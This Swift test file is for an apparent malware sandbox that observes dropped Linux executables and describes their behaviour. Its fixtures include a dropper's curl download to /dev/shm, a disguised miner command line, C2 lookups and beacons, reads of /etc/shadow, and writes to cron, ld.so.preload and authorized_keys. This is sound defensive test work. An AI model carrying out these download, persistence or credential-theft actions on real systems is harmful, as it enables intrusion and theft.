// shmwarden — Linux host agent for executables dropped on tmpfs.
// SPDX-License-Identifier: Apache-2.0

import Foundation
@preconcurrency import Glibc
import Testing
import WardenCore
import WardenLinux

@testable import WardenSandbox

@Suite struct SandboxObserverDecodingTests {
    @Test func socketAddressesOfEachFamily() {
        // AF_INET 127.0.0.1:8080
        let inet: [UInt8] = [2, 0, 0x1f, 0x90, 127, 0, 0, 1] + Array(repeating: 0, count: 8)
        #expect(
            SandboxObserver.socketAddress(inet, syscall: "connect")
                == .init(syscall: "connect", family: "AF_INET", address: "127.0.0.1", port: 8080))
        // AF_INET6 [::1]:443
        var inet6: [UInt8] = [10, 0, 0x01, 0xbb, 0, 0, 0, 0] + Array(repeating: 0, count: 16) + [0, 0, 0, 0]
        inet6[23] = 1
        #expect(SandboxObserver.socketAddress(inet6, syscall: "sendto").address == "::1")
        #expect(SandboxObserver.socketAddress(inet6, syscall: "sendto").port == 443)
        // AF_UNIX path and abstract
        let path: [UInt8] = [1, 0] + Array("/run/x.sock".utf8) + [0]
        #expect(SandboxObserver.socketAddress(path, syscall: "connect").address == "/run/x.sock")
        let abstract: [UInt8] = [1, 0, 0] + Array("hidden".utf8)
        #expect(SandboxObserver.socketAddress(abstract, syscall: "connect").address == "@hidden")
        #expect(SandboxObserver.socketAddress([1], syscall: "connect").family == "unknown")
    }

    /// The kernel's audit records of calls the observer answered itself carry the notification's
    /// action code; the filter's refusals and kills carry theirs, and only those count.
    @Test func auditRecordsOfObserverAnswersAreTold() {
        let record = { (code: String) in
            " audit(1764800000.123:456): auid=4294967295 uid=2147480381 gid=2147480381 ses=4294967295 pid=875 "
                + "comm=\"net\" exe=\"/sample/net\" sig=0 arch=c000003e syscall=41 compat=0 ip=0x7f00 code=\(code)"
        }
        #expect(KernelAuditReader.isObserverAnswer(record("0x7fc00000")))
        #expect(!KernelAuditReader.isObserverAnswer(record("0x50001")))  // ERRNO(EPERM)
        #expect(!KernelAuditReader.isObserverAnswer(record("0x80000000")))  // KILL_PROCESS
        #expect(!KernelAuditReader.isObserverAnswer(" type=1326 uid=1 syscall=41"))
    }

    /// glibc's nscd requests and the negative answers it takes as "not found" (not as "no nscd").
    @Test func nameServiceRequestsAndAnswers() {
        func bytes(_ fields: [Int32]) -> [UInt8] {
            fields.flatMap { value in withUnsafeBytes(of: value) { Array($0) } }
        }
        #expect(SandboxNameService.parseHeader(bytes([2, 14, 15]))! == (14, 15))
        #expect(SandboxNameService.parseHeader(bytes([3, 14, 15])) == nil, "another protocol version")
        #expect(SandboxNameService.parseHeader(bytes([2, 14, 0])) == nil, "an empty key")
        #expect(SandboxNameService.parseHeader(bytes([2, 14, 1025])) == nil, "a key over the limit")
        #expect(SandboxNameService.parseHeader(bytes([2, 14])) == nil)
        #expect(SandboxNameService.describe(Array("c2.example.net\0".utf8), .getAddressInfo) == "c2.example.net")
        #expect(SandboxNameService.describe([192, 0, 2, 7], .getHostByAddress) == "192.0.2.7")
        #expect(
            SandboxNameService.describe(
                [0x20, 0x01, 0x0d, 0xb8] + Array(repeating: 0, count: 11) + [1], .getHostByAddressIPv6)
                == "2001:db8:0:0:0:0:0:1")
        #expect(SandboxNameService.notFoundAnswer(.getAddressInfo) == bytes([2, 0, 0, 0, 0, 1]))
        #expect(SandboxNameService.notFoundAnswer(.getHostByName) == bytes([2, 0, 0, 0, -1, -1, 0, 1]))
        // Found: the header, then what glibc reads after it (aicache.c's and hstcache.c's layouts).
        #expect(
            SandboxNameService.foundAnswer(.getAddressInfo, name: "c2.io", address: [198, 18, 0, 1])
                == bytes([2, 1, 1, 4, 6, 0]) + [198, 18, 0, 1, 2] + Array("c2.io\0".utf8))
        #expect(
            SandboxNameService.foundAnswer(.getHostByName, name: "c2.io", address: [198, 18, 0, 1])
                == bytes([2, 1, 6, 0, 2, 4, 1, 0]) + Array("c2.io\0".utf8) + [198, 18, 0, 1])
    }

    /// Relative paths against a working directory the kernel named (no symlinks in it).
    @Test func relativePathsJoinTheWorkingDirectory() {
        func join(_ directory: String, _ relative: String) -> String {
            String(decoding: SandboxObserver.join(Array(directory.utf8), Array(relative.utf8)), as: UTF8.self)
        }
        #expect(join("/etc", "shadow") == "/etc/shadow")
        #expect(join("/", "x") == "/x")
        #expect(join("/tmp", "./a/./b") == "/tmp/a/b")
        #expect(join("/tmp", "../dev/shm/x") == "/dev/shm/x")
        #expect(join("/", "../../x") == "/x")
        #expect(join("/tmp", "..") == "/")
        // After another component, `..` stays: that component may be a symlink.
        #expect(join("/tmp", "link/../x") == "/tmp/link/../x")
    }

    @Test func descriptorPaths() {
        func number(_ path: String) -> Int32? { SandboxObserver.descriptorNumber(inPath: Array(path.utf8)) }
        #expect(number("/proc/self/fd/3") == 3)
        #expect(number("/proc/thread-self/fd/12") == 12)
        #expect(number("/proc/4242/fd/7") == 7)
        #expect(number("/dev/fd/4") == 4)
        #expect(number("/proc/self/fd/x") == nil)
        #expect(number("/proc/self/fdinfo/3") == nil)
        #expect(number("/proc/self/fd/3/x") == nil)
        #expect(number("/usr/bin/true") == nil)
        #expect(number("proc/self/fd/3") == nil)
    }

    @Test func openFlagsAndModes() {
        #expect(SandboxObserver.openFlags(O_RDONLY) == "O_RDONLY")
        #expect(SandboxObserver.openFlags(O_RDWR | O_APPEND) == "O_RDWR|O_APPEND")
        #expect(
            SandboxObserver.openFlags(O_WRONLY | O_CREAT | O_EXCL, mode: 0o4755) == "O_WRONLY|O_CREAT|O_EXCL mode 4755")
        #expect(SandboxObserver.openFlags(O_WRONLY | O_CREAT, mode: 0o600) == "O_WRONLY|O_CREAT mode 0600")
    }

    @Test func journalEntriesKeepMultiLineValuesWhole() {
        let bytes = JournalSocket.encode([("MESSAGE", "one\ntwo"), ("PRIORITY", "5")])
        var expected = Array("MESSAGE\n".utf8)
        withUnsafeBytes(of: UInt64(7).littleEndian) { expected += $0 }
        expected += Array("one\ntwo\nPRIORITY=5\n".utf8)
        #expect(bytes == expected)
    }

    /// The instructions ahead of libseccomp's program, run by a small interpreter of the three
    /// kinds they use: only i386's socketcall(SYS_SOCKET) and its socket(2) for IPv4 or IPv6 go
    /// to the observer; everything else, of any ABI, goes on to libseccomp's first instruction.
    @Test func thePrefixSendsOnlyI386SocketsToTheObserver() throws {
        let i386: UInt32 = 0x4000_0003
        let x86_64: UInt32 = 0xc000_003e
        let prefix = SandboxFilter.compatibleSocketsPrefix(SeccompArchitecture(token: i386))
        #expect(prefix.count % 8 == 0)
        let count = prefix.count / 8
        /// nil: it fell through to libseccomp's program (instruction `count`).
        func run(arch: UInt32, nr: UInt32, arg0: UInt32) -> UInt32? {
            var pc = 0
            var accumulator: UInt32 = 0
            while pc < count {
                let field = { (offset: Int) in
                    prefix[(8 * pc + offset)...].prefix(4).reversed().reduce(UInt32(0)) { $0 << 8 | UInt32($1) }
                }
                let code = UInt16(prefix[8 * pc]) | UInt16(prefix[8 * pc + 1]) << 8
                let (jumpIfTrue, jumpIfFalse, value) = (Int(prefix[8 * pc + 2]), Int(prefix[8 * pc + 3]), field(4))
                switch code {
                case 0x20:
                    accumulator = value == 4 ? arch : value == 0 ? nr : value == 16 ? arg0 : 0xdead
                    pc += 1
                case 0x15: pc += 1 + (accumulator == value ? jumpIfTrue : jumpIfFalse)
                case 0x06: return value
                default:
                    Issue.record("instruction \(code) at \(pc)")
                    return nil
                }
            }
            #expect(pc == count, "a jump past libseccomp's first instruction")
            return nil
        }
        let notify: UInt32 = 0x7fc0_0000
        #expect(run(arch: i386, nr: 102, arg0: 1) == notify)  // socketcall(SYS_SOCKET)
        #expect(run(arch: i386, nr: 102, arg0: 3) == nil)  // socketcall(SYS_CONNECT): libseccomp's
        #expect(run(arch: i386, nr: 359, arg0: 2) == notify)  // socket(AF_INET)
        #expect(run(arch: i386, nr: 359, arg0: 10) == notify)  // socket(AF_INET6)
        #expect(run(arch: i386, nr: 359, arg0: 1) == nil)  // socket(AF_UNIX)
        #expect(run(arch: i386, nr: 359, arg0: 17) == nil)  // socket(AF_PACKET): libseccomp refuses it
        #expect(run(arch: i386, nr: 4, arg0: 1) == nil)  // write
        #expect(run(arch: x86_64, nr: 41, arg0: 2) == nil)  // x86_64's socket: libseccomp's rules
        #expect(run(arch: x86_64, nr: 102, arg0: 1) == nil)  // x86_64's getuid
        #expect(run(arch: x86_64, nr: 359, arg0: 2) == nil)
        // Observing on x86_64, the program starts with it; the filter alone has none of it.
        if SandboxFilter.compatibleArchitecture?.token == i386 {
            #expect(try SandboxFilter(observe: true).program.starts(with: prefix))
            #expect(try !SandboxFilter(observe: false).program.starts(with: prefix))
        }
    }

    @Test func theFilterBuildsWithAndWithoutObservation() throws {
        let observing = try SandboxFilter(observe: true)
        let enforcing = try SandboxFilter(observe: false)
        #expect(observing.program != enforcing.program, "observation adds notify rules")
        #expect(enforcing.program.count % 8 == 0)
        #expect(SandboxFilter.name(of: 0) == "read")
    }
}

/// The verdict restates the report: each sentence from its fields, nothing else.
@Suite struct SandboxVerdictTests {
    private func report(
        exit: SandboxReport.Exit = .init(code: 0, signal: nil), files: [SandboxReport.FileAccess] = [],
        signals: [String] = [],
        denied: [String: Int] = [:], processes: [SandboxReport.Process] = [], timedOut: Bool = false,
        stillRunning: [SandboxReport.Survivor] = []
    ) -> SandboxReport {
        SandboxReport(
            id: "s1", sha256: String(repeating: "a", count: 64), argv: ["/sample/x"], uid: 2_147_483_646, exit: exit,
            timedOut: timedOut, stillRunning: stillRunning,
            durationMs: 4.5, syscalls: [:], denied: denied, network: [], lookups: [], files: files,
            processes: processes, signals: signals,
            written: [], writtenTruncated: false, stdout: "", stderr: "", stdoutTruncated: false,
            stderrTruncated: false, setupError: nil,
            verdict: [])
    }

    @Test func aQuietRunSaysSo() {
        #expect(
            SandboxVerdict.sentences(report()) == ["It exited with code 0 after 4.5 ms.", "Nothing else was observed."])
        #expect(SandboxVerdict.sentences(report(exit: .init(code: nil, signal: nil))) == ["Nothing else was observed."])
    }

    @Test func callsThroughI386sABIAreSaid() {
        var mixed = report()
        mixed.i386Calls = 4
        #expect(
            SandboxVerdict.sentences(mixed) == [
                "It exited with code 0 after 4.5 ms.",
                "4 of its observed calls went through the 32-bit x86 (i386) ABI: a 32-bit program's, or int 0x80 from a 64-bit one.",
            ])
        #expect(SandboxReportMarkdown.render(mixed).contains("| observed calls through i386's ABI | 4 |"))
    }

    /// A run stored before `stillRunning`, `writtenTruncated`, `i386Calls` and `exit.atTimeLimit` existed
    /// still reads back, with the values that meant "none" then.
    @Test func aRunStoredBeforeTheNewerFieldsReadsBack() throws {
        var stored = report(exit: .init(code: nil, signal: 9, atTimeLimit: true), timedOut: true)
        stored.verdict = ["It was still running after the time limit."]
        stored.i386Calls = 3
        let json = try #require(stored.record(at: Timestamp(nanosecondsSinceEpoch: 0)).reportJSON.data(using: .utf8))
        var object = try #require(try JSONSerialization.jsonObject(with: json) as? [String: Any])
        object["stillRunning"] = nil
        object["writtenTruncated"] = nil
        object["i386Calls"] = nil
        var exit = try #require(object["exit"] as? [String: Any])
        exit["atTimeLimit"] = nil
        object["exit"] = exit
        let legacy = String(decoding: try JSONSerialization.data(withJSONObject: object), as: UTF8.self)
        let read = try SandboxReport.decodeStored(legacy)
        #expect(read.exit == stored.exit && read.timedOut && read.stillRunning.isEmpty && !read.writtenTruncated)
        #expect(read.i386Calls == 0)
        #expect(read.verdict == stored.verdict && read.id == stored.id && read.sha256 == stored.sha256)
        // A current one reads back as it was written.
        let current = try SandboxReport.decodeStored(String(decoding: json, as: UTF8.self))
        #expect(current.exit == stored.exit && current.i386Calls == 3)
        #expect(throws: (any Error).self) { try SandboxReport.decodeStored("[1]") }
    }

    /// What the sample chose (a host name here) reaches a terminal with its escape sequences
    /// shown, not sent.
    @Test func controlCharactersFromTheSampleAreEscapedInTheVerdict() {
        var looked = report()
        looked.lookups = [.init(request: "getaddrinfo", name: "c2\u{1B}]0;owned\u{07}.example", pid: 7)]
        let sentence = SandboxVerdict.sentences(looked).first { $0.hasPrefix("It looked up") }
        #expect(
            sentence
                == #"It looked up 1 host name(s) or address(es) through glibc, answered by the jail's name service: c2\x1b]0;owned\x07.example (not found)."#
        )
    }

    /// A link made in a place programs are started from is a persistence attempt like a write.
    @Test func aLinkMadeAtAPersistencePlaceCounts() {
        let linked = report(files: [
            .init(syscall: "symlinkat", path: "/etc/cron.d/job", detail: "-> /tmp/a", created: true)
        ])
        #expect(
            SandboxVerdict.sentences(linked).contains(
                "It tried to write where programs are started again (persistence): /etc/cron.d/job."),
            "\(SandboxVerdict.sentences(linked))")
    }

    @Test func whatOutlivedTheSampleIsNamedWithHowItEnded() {
        let miner = SandboxReport.Survivor(pid: 41, commandLine: "'[kworker/0:1]' -o pool:3333", ownSession: true)
        let helper = SandboxReport.Survivor(pid: 42, commandLine: "sleep 60", ownSession: false)
        let leftBehind = report(timedOut: true, stillRunning: [miner, helper])
        #expect(
            SandboxVerdict.sentences(leftBehind).first
                == "It exited with code 0, and 2 process(es) it left behind were still running at the time limit, 1 of "
                + "them in a session of its own (a daemon): pid 41 '[kworker/0:1]' -o pool:3333; pid 42 sleep 60; every "
                + "process in its pid namespace was killed then.")
        #expect(
            SandboxVerdict.sentences(report(timedOut: true)).first
                == "It exited with code 0, and processes it left behind were still running at the time limit; every "
                + "process in its pid namespace was killed then.")
        let stillAtWork = report(
            exit: .init(code: nil, signal: 9, atTimeLimit: true), timedOut: true, stillRunning: [helper])
        #expect(
            SandboxVerdict.sentences(stillAtWork).first
                == "It was still running after the time limit; every process in its pid namespace was killed (1 "
                + "running then: pid 42 sleep 60).")
    }

    @Test func aRenameAndAMemoryOnlyFileAreNamedAndNotCountedAsOthers() {
        let sentences = SandboxVerdict.sentences(
            report(
                files: [.init(syscall: "memfd_create", path: "/memfd:x", detail: "MFD_CLOEXEC", created: true)],
                processes: [
                    .init(syscall: "prctl", path: nil, pid: 7, renamedTo: "[kworker/0:1]"),
                    .init(syscall: "prctl", path: nil, pid: 8, renamedTo: "[kworker/0:1]"),
                ]))
        #expect(
            sentences == [
                "It exited with code 0 after 4.5 ms.",
                "It renamed itself as ps shows it (prctl PR_SET_NAME): '[kworker/0:1]'.",
                "It tried to create 1 file(s) that exist only in memory (memfd_create), with no result seen: /memfd:x.",
            ])
    }

    /// Each kind of call is told as it came out: done, refused (with the error), or with no
    /// result seen (a call is seen before the kernel runs it).
    @Test func aDroppersNextStepsAreNamedWithWhatTheyCameTo() {
        func access(_ syscall: String, _ path: String, _ detail: String?, created: Bool = false, result: String?)
            -> SandboxReport.FileAccess
        {
            var access = SandboxReport.FileAccess(syscall: syscall, path: path, detail: detail, created: created)
            access.result = result
            return access
        }
        let files =
            [
                access("openat", "/tmp/a", "O_WRONLY|O_CREAT|O_TRUNC mode 0644", created: true, result: "ok"),
                access(
                    "openat", "/etc/cron.d/x", "O_WRONLY|O_CREAT|O_TRUNC mode 0644", created: true, result: "ENOENT"),
                access("fchmodat", "/tmp/a", "755", result: "ok"),
                access("unlinkat", "/tmp/a", nil, result: "ok"),
            ] + (1...4).map { access("rename", "/tmp/r\($0)", "/tmp/s\($0)", result: nil) }
        let sentences = SandboxVerdict.sentences(report(files: files, signals: ["kill(1, 9) -> EPERM", "kill(7, 15)"]))
        #expect(
            sentences == [
                "It exited with code 0 after 4.5 ms.",
                "It tried to write where programs are started again (persistence): /etc/cron.d/x (ENOENT).",
                "It created or truncated 1 file(s): /tmp/a.",
                "It tried to create or truncate 1 more file(s), refused: /etc/cron.d/x (ENOENT).",
                "It changed the mode of 1 file(s): /tmp/a 755.",
                "It deleted or renamed 1 path(s): /tmp/a.",
                "It tried to delete or rename 4 more path(s), with no result seen: /tmp/r1, /tmp/r2, /tmp/r3 and 1 more.",
                "It tried to send 1 signal(s), refused: kill(1, 9) (EPERM).",
                "It tried to send 1 more signal(s), with no result seen: kill(7, 15).",
            ])
    }

    /// Where the results could not be traced, the verdict says so once, after the attempts.
    @Test func untracedResultsAreSaidOnce() {
        var untraced = report(
            files: [.init(syscall: "unlinkat", path: "/usr/bin/ls", detail: nil, created: false)])
        untraced.resultsError = "perf_event_open failed: Permission denied (errno 13)"
        #expect(
            SandboxVerdict.sentences(untraced) == [
                "It exited with code 0 after 4.5 ms.",
                "It tried to delete or rename 1 path(s), with no result seen: /usr/bin/ls.",
                "What its calls came to could not be traced (perf_event_open failed: Permission denied (errno 13)): where it tried, the outcome is not known.",
            ])
        var quiet = report()
        quiet.resultsError = untraced.resultsError
        #expect(
            SandboxVerdict.sentences(quiet) == ["It exited with code 0 after 4.5 ms.", "Nothing else was observed."])
    }

    /// A refused socket call can only have asked for a family other than AF_UNIX: the verdict
    /// says so, and says nothing of a destination it never saw.
    @Test func refusedSocketsNameTheKindOfAccess() {
        let sentences = SandboxVerdict.sentences(report(denied: ["socket": 2, "mount": 1]))
        #expect(
            sentences == [
                "It exited with code 0 after 4.5 ms.",
                "The filter refused or killed: mount ×1, socket ×2.",
                "Its 2 refused socket call(s) asked for a family other than AF_UNIX, the only one the filter allows (an IPv4 or IPv6 socket, for instance); where it meant to connect is not known.",
            ])
        #expect(!SandboxVerdict.sentences(report(denied: ["mount": 1])).contains { $0.contains("socket") })
    }

    /// An observed run's network story: its stand-ins, where it connected and what it sent to the
    /// sink (a TLS server name rather than its bytes), its binds, and its own DNS queries.
    @Test func theNetworkStoryIsTold() {
        var base = report(denied: ["socket": 1])
        base.syscalls = ["socket": 4, "connect": 3]
        var http = SandboxReport.NetworkAttempt(
            syscall: "connect", family: "AF_INET", address: "203.0.113.5", port: 80, result: "ok")
        http.sentBytes = 18
        http.sent = "GET / HTTP/1.1\\x0d\\x0a"
        var tls = SandboxReport.NetworkAttempt(
            syscall: "connect", family: "AF_INET", address: "198.51.100.2", port: 443, result: "ok")
        tls.sentBytes = 517
        tls.tlsServerName = "pool.example.net"
        var silent = SandboxReport.NetworkAttempt(
            syscall: "connect", family: "AF_INET6", address: "2001:db8::1", port: 22, result: "ok")
        silent.sentBytes = 0
        base.network = [
            .init(syscall: "socket", family: "AF_INET", type: "SOCK_STREAM", result: "ok"),
            .init(syscall: "socket", family: "AF_INET", type: "SOCK_STREAM", result: "ok"),
            .init(syscall: "socket", family: "AF_INET6", type: "SOCK_STREAM", result: "ok"),
            .init(syscall: "socket", family: "AF_INET", type: "SOCK_RAW", result: "EPERM"),
            http, tls, silent,
            .init(syscall: "bind", family: "AF_INET", address: "0.0.0.0", port: 4444, result: "ok"),
            {
                var datagram = SandboxReport.NetworkAttempt(
                    syscall: "sendto", family: "AF_INET", address: "198.51.100.3", port: 9999, result: "ENETUNREACH")
                datagram.sentBytes = 4
                datagram.sent = "ping"
                return datagram
            }(),
        ]
        base.lookups = [.init(request: "DNS AAAA", name: "c2.example", pid: 9)]
        let sentences = SandboxVerdict.sentences(base)
        #expect(
            sentences.contains(
                "Its 1 refused socket call(s) asked for a kind the jail does not give: a family other than AF_UNIX, IPv4 and IPv6 (a packet or netlink socket, say), or a raw IPv4 or IPv6 socket (AF_INET SOCK_RAW ×1)."
            ), "\(sentences)")
        #expect(
            sentences.contains(
                "It made 3 IPv4 or IPv6 socket(s) (AF_INET SOCK_STREAM ×2, AF_INET6 SOCK_STREAM ×1). "
                    + SandboxVerdict.standInNote))
        #expect(
            sentences.contains(
                "It tried to connect or send: AF_INET 198.51.100.2 443 (ok); AF_INET 198.51.100.3 9999 (ENETUNREACH); AF_INET 203.0.113.5 80 (ok); AF_INET6 2001:db8::1 22 (ok)."
            ), "\(sentences)")
        #expect(
            sentences.contains(
                "Over its connection to AF_INET 203.0.113.5 80, made to the jail's sink, it sent 18 byte(s): GET / HTTP/1.1\\x0d\\x0a"
            ))
        #expect(
            sentences.contains(
                "Over its connection to AF_INET 198.51.100.2 443, made to the jail's sink, it began TLS for the server name pool.example.net (517 byte(s) sent)."
            ))
        #expect(
            sentences.contains(
                "Its connection to AF_INET6 2001:db8::1 22, made to the jail's sink, carried nothing before the sink hung up."
            ))
        #expect(sentences.contains("It tried to bind sockets, to listen or receive on: AF_INET 0.0.0.0 4444 (ok)."))
        #expect(
            sentences.contains(
                "It tried to send a datagram of 4 byte(s) to AF_INET 198.51.100.3 9999, not delivered: ping"),
            "\(sentences)")
        #expect(
            sentences.contains {
                $0.hasPrefix("It sent DNS queries of its own, not through glibc, for 1 name(s): c2.example (AAAA);")
            })
        #expect(!sentences.contains { $0.hasPrefix("It looked up") })
    }

    /// A beacon that reconnects and sends the same each time is one sentence, with how often.
    @Test func aBeaconsRepeatedConnectionsAreOneSentence() {
        var base = report()
        base.syscalls = ["connect": 5]
        let beacon = { (sent: String) -> SandboxReport.NetworkAttempt in
            var attempt = SandboxReport.NetworkAttempt(
                syscall: "connect", family: "AF_INET", address: "203.0.113.9", port: 443, result: "ok")
            attempt.sentBytes = sent.utf8.count
            attempt.sent = sent
            attempt.sentBase64 = PathBytes(sent).base64
            return attempt
        }
        base.network = [beacon("hello"), beacon("hello"), beacon("hello"), beacon("bye"), beacon("")]
        let sentences = SandboxVerdict.sentences(base)
        #expect(
            sentences.contains(
                "Over each of its 3 connections to AF_INET 203.0.113.9 443, made to the jail's sink, it sent 5 byte(s): hello"
            ),
            "\(sentences)")
        #expect(
            sentences.contains(
                "Over its connection to AF_INET 203.0.113.9 443, made to the jail's sink, it sent 3 byte(s): bye"))
        #expect(
            sentences.contains(
                "Its connection to AF_INET 203.0.113.9 443, made to the jail's sink, carried nothing before the sink hung up."
            ))
        #expect(!sentences.contains { $0.hasPrefix("It made") && $0.contains("more connection") })
    }

    /// A scanner's hundreds of connects are all in `network`; the verdict names the first ten.
    @Test func aScannersConnectsAreCountedNotAllNamed() {
        var base = report()
        base.syscalls = ["connect": 12]
        base.network = (0..<12).map {
            .init(
                syscall: "connect", family: "AF_INET", address: "198.51.100.\($0 + 10)", port: 23, result: "ENETUNREACH"
            )
        }
        let sentence = SandboxVerdict.sentences(base).first { $0.hasPrefix("It tried to connect or send: ") }
        #expect(sentence?.hasSuffix("AF_INET 198.51.100.19 23 (ENETUNREACH) and 2 more.") == true, "\(sentence ?? "")")
    }

    /// What an exec was told is the dropper's story (`curl URL -o /dev/shm/x`): the verdict names
    /// each program with its arguments, quoted as a shell needs them, and says when argv[0] lies
    /// about the program or the vector went on past what was read.
    @Test func programsAreNamedWithTheirArguments() {
        let processes: [SandboxReport.Process] = [
            .init(syscall: "execveat", path: SandboxReport.Process.theSample, pid: 1, arguments: ["/sample/x"]),
            .init(syscall: "clone", path: nil, pid: 1),
            .init(
                syscall: "execve", path: "/usr/bin/curl", pid: 2,
                arguments: ["curl", "-o", "/dev/shm/a b", "http://h/x"]),
            .init(syscall: "execve", path: "/dev/shm/a b", pid: 2, arguments: ["[kworker/0:1]"]),
            .init(
                syscall: "execve", path: "/bin/echo", pid: 3, arguments: ["/bin/echo", "1"], argumentsComplete: false),
            .init(syscall: "execve", path: "/bin/true", pid: 4),
        ]
        #expect(processes[0].commandLine == "/sample/x")
        #expect(processes[1].commandLine == nil)
        #expect(processes[3].commandLine == "'/dev/shm/a b' (argv[0] '[kworker/0:1]')")
        let sentences = SandboxVerdict.sentences(report(processes: processes))
        #expect(
            sentences == [
                "It exited with code 0 after 4.5 ms.",
                "It made 5 call(s) that start a process or a program (clone, execve).",
                "It tried to run 4 program(s), with no result seen: /usr/bin/curl -o '/dev/shm/a b' http://h/x; '/dev/shm/a b' (argv[0] '[kworker/0:1]'); /bin/echo 1 …; /bin/true.",
            ])
    }

    /// Credential files opened in any way, persistence places written (or renamed onto), and a
    /// container runtime's socket: each named; a shell reading /etc/profile is not persistence.
    @Test func sensitiveAttemptsAreNamed() {
        let files: [SandboxReport.FileAccess] = [
            .init(syscall: "openat", path: "/etc/shadow", detail: "O_RDONLY", created: false),
            .init(syscall: "openat", path: "/etc/profile", detail: "O_RDONLY", created: false),
            .init(
                syscall: "openat", path: "/etc/cron.d/x", detail: "O_WRONLY|O_CREAT|O_TRUNC mode 0644", created: true),
            .init(syscall: "openat", path: "/etc/ld.so.preload", detail: "O_WRONLY|O_APPEND", created: false),
            .init(syscall: "renameat2", path: "/tmp/k", detail: "to /root/.ssh/authorized_keys", created: false),
            .init(syscall: "unlinkat", path: "/etc/shadow-", detail: nil, created: false),
        ]
        var base = report(files: files)
        base.network = [.init(syscall: "connect", family: "AF_UNIX", address: "/var/run/docker.sock", port: nil)]
        #expect(
            SandboxVerdict.sensitiveAccesses(base) == [
                "It tried to open credential files: /etc/shadow.",
                "It tried to write where programs are started again (persistence): /etc/cron.d/x, /etc/ld.so.preload, /root/.ssh/authorized_keys.",
                "It tried to reach a container runtime's socket: /var/run/docker.sock.",
            ])
        #expect(SandboxVerdict.sentences(base).contains("It tried to open credential files: /etc/shadow."))
        #expect(SandboxVerdict.sensitiveAccesses(report(files: [files[1]])).isEmpty)
    }
}
